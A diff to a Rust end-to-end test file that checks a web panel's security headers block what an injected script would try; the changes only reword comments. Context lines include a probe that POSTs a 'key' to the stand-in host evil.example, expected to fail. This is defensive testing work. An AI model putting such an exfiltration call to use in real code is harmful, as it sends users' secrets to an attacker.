@@ -1,9 +1,9 @@
-//! What a script injected into the page would try. Each attempt is made from inside the running panel, under the
-//! headers of a release, and has to fail by the policy and not by luck.
+//! Probes: attempts of an injected script, inside the running panel with the release's headers. Each has to fail by a
+//! violation of the policy.
 
 use e2e::{FileFault, Page, StaticHost, page_test, panel_test};
 
-/// A name for the message, the directive that refuses it, the attempt, and what the attempt returns when it failed.
+/// A name, the directive that blocks the attempt, the attempt, and its result when blocked.
 struct Probe {
     name: &'static str,
     by: &'static str,
@@ -65,7 +65,7 @@ const PROBES: [Probe; 16] = [
         attempt: "await fetch('https://evil.example/', { method: 'POST', mode: 'no-cors', body: 'key' }); return 'sent';",
         failed: "TypeError",
     },
-    // The page's own policy allows it, for hosts that send no headers; the header does not.
+    // The page's own policy allows it, for hosts without headers; the header does not.
     Probe {
         name: "a request to another port of this machine",
         by: "connect-src",
@@ -144,7 +144,7 @@ fn what_an_injected_script_would_try_is_refused() {
     });
 }
 
-/// The policy of a release without Trusted Types, which would otherwise refuse the same things first.
+/// The policy without Trusted Types, which would block these attempts first.
 const WITHOUT_TYPES: &str = "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; \
     img-src 'self'; connect-src 'self'; manifest-src 'self'; frame-ancestors 'none'";
 
@@ -179,7 +179,7 @@ fn the_headers_keep_the_panel_out_of_frames() {
         host.set_fault("404.html", FileFault::Framing(panel.server.url()));
         panel.visit(&format!("{}404.html", host.url())).await;
         panel.enter_frame().await;
-        // The browser's own page in its place; the panel would say that it does not run there.
+        // The browser's error page, not the panel's own message.
         panel.does_not_show("Public IPs").await;
         panel
             .does_not_show("does not run inside another page")
